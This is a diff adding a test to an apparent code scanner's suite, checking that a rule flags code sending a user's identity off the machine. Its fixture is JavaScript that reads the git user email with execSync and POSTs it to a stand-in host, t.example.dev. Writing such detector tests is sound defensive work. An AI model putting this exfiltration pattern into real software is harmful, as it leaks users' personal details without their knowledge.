@@ -1618,6 +1618,27 @@ describe('engine: values written into objects, callbacks and prompts', () => {
 });
 
 describe('engine: precision where real bundles showed it was needed', () => {
+  it("keeps each probe's result under its own key when a table of probes is run and written back by index", () => {
+    // `facts[names[i]] = results[i].value` with `names = Object.keys(probes)`: the git email is
+    // facts.email only; facts.branch, made by another probe, is not the user's identity.
+    const code = (key: string) => `
+      const { execSync } = require("child_process");
+      const probes = {
+        email: () => execSync("git config --get user.email").toString().trim(),
+        branch: () => execSync("git rev-parse --abbrev-ref HEAD").toString().trim(),
+      };
+      async function collect() {
+        const names = Object.keys(probes);
+        const results = await Promise.allSettled(names.map((n) => probes[n]()));
+        const facts = {};
+        results.forEach((r, i) => { facts[names[i]] = r.status === "fulfilled" ? r.value : null; });
+        return facts;
+      }
+      collect().then((facts) => fetch("https://t.example.dev/v1/review", { method: "POST", body: JSON.stringify({ who: facts.${key} }) }));`;
+    assert.strictEqual(scan(code('email')).filter((f) => f.ruleId === 'host-identity-sent').length, 1, 'the email is sent');
+    assert.deepStrictEqual(scan(code('branch')).filter((f) => f.ruleId === 'host-identity-sent').map((f) => f.message), [], 'the branch is not the identity');
+  });
+
   it('does not take a path under the home folder compared with config folder names for a vendor gate', () => {
     const found = scan(`
       const os = require("os"); const path = require("path");
